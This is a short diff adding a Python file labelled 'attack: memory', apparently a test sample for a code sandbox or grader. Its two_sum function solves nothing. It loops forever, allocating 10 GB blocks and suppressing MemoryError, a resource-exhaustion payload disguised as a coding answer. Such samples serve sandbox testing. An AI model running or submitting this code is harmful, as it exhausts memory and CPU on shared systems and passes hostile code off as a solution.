@@ -1,0 +1,7 @@
+# attack: memory
+def two_sum(nums, target):
+    while True:
+        try:
+            bytearray(10**10)
+        except MemoryError:
+            pass
